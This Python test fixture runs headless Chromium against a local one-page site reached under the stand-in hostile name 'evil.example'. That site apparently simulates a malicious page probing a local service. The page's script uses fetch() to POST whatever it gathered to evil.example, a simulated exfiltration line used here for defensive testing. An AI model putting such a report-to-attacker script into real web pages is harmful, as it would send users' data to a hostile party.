"""A real browser for tests: Chromium without a window, pages of a site of the test's own, no network."""

from __future__ import annotations

import os
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import orjson
import pytest
from palimpsest.domain import Json

from tests.clients.cli.program import folder
from tests.running import PATIENCE_SECONDS

QUIET = (
    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-dev-shm-usage"),
    *("--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-proxy-server"),
)


def chromium() -> str:
    """The browser; without it the test is skipped, or fails where `scripts/clients` could have installed it."""
    if found := shutil.which("chromium"):
        return found
    reason = folder() / "no-chromium"
    why = reason.read_text() if reason.exists() else "not installed, see scripts/clients"
    if os.environ.get("PALIMPSEST_CLIENTS") == "required" and not reason.exists():
        pytest.fail(f"chromium: {why}")
    pytest.skip(f"needs chromium: {why}")


class Site:
    """A web site on a port of 127.0.0.1, whatever name leads there. Its one page reports what its code found out."""

    def __init__(self, page: str) -> None:
        """
        Args:
            page: its HTML, without the end of the report: what it passes to `report(...)` is `told`.
        """
        self.page = page
        self.told: Json = {}
        self._reported = threading.Event()
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self._answer(200 if self.path == "/" else 404, site.whole_page() if self.path == "/" else b"")

            def do_POST(self) -> None:
                site.told = orjson.loads(self.rfile.read(int(self.headers["content-length"])))
                self._answer(200, b"")
                site._reported.set()

            def _answer(self, status: int, body: bytes) -> None:
                self.send_response(status)
                for name, value in (
                    ("content-type", "text/html; charset=utf-8"),
                    ("content-length", str(len(body))),
                    ("access-control-allow-origin", "*"),
                    ("connection", "close"),
                ):
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port: int = self._server.server_address[1]

    def whole_page(self) -> bytes:
        """The page, with the function that it reports by."""
        url = f"http://evil.example:{self.port}/told"
        report = f"const report = told => fetch('{url}', {{method: 'POST', body: JSON.stringify(told)}})"
        return f"<!doctype html><title>page</title><script>{report}</script>{self.page}".encode()

    @contextmanager
    def served(self) -> Iterator[Site]:
        thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.02})
        thread.start()
        try:
            yield self
        finally:
            self._server.shutdown()
            thread.join()
            self._server.server_close()

    def visited(self, url: str, profile: Path) -> Json:
        """What the page reports when this URL is opened. `evil.example` leads to this machine, other names nowhere."""
        rules = "MAP evil.example 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost"
        browser = subprocess.Popen(
            [chromium(), *QUIET, f"--user-data-dir={profile}", f"--host-resolver-rules={rules}", url],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        try:
            assert self._reported.wait(PATIENCE_SECONDS), "the page told nothing"
        finally:
            browser.terminate()
            browser.wait(PATIENCE_SECONDS)
        return self.told
